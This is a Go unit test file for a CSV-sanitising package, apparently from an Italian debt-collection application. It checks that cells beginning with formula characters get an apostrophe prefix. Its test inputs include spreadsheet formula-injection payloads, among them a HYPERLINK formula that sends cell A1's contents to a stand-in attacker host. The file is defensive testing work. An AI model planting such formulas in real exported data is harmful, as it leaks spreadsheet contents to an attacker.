package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"incasso/domain/csvsafe"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"Rossi")`: `'=HYPERLINK("http://evil.example/?x="&A1,"Rossi")`,
		"+39 06 1234":      "'+39 06 1234",
		"-2+3":             "'-2+3",
		"@SUM(A1:A9)":      "'@SUM(A1:A9)",
		"\t=1+1":           "'\t=1+1",
		"\r=1+1":           "'\r=1+1",
		"Mario Rossi":      "Mario Rossi",
		"Rossi = Bianchi":  "Rossi = Bianchi",
		"'già tra apici":   "'già tra apici",
		"1234,56":          "1234,56",
		"":                 "",
		" =spazio davanti": " =spazio davanti",
	} {
		require.Equal(t, want, csvsafe.Cell(in), "%q", in)
	}
}

func TestWriter(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf, ';', true)
	header := []string{"nome", "=importo"}
	require.NoError(t, w.Write(header))
	require.NoError(t, w.Write([]string{`=HYPERLINK("http://evil.example","clic")`, "-5"}))
	require.NoError(t, w.Flush())
	require.Equal(t, []string{"nome", "=importo"}, header, "the caller's record is left alone")
	require.Equal(t, "nome;'=importo\r\n"+`"'=HYPERLINK(""http://evil.example"",""clic"")";'-5`+"\r\n", buf.String())

	r := csv.NewReader(strings.NewReader(buf.String()))
	r.Comma = ';'
	records, err := r.ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"nome", "'=importo"}, {`'=HYPERLINK("http://evil.example","clic")`, "'-5"}}, records)
}
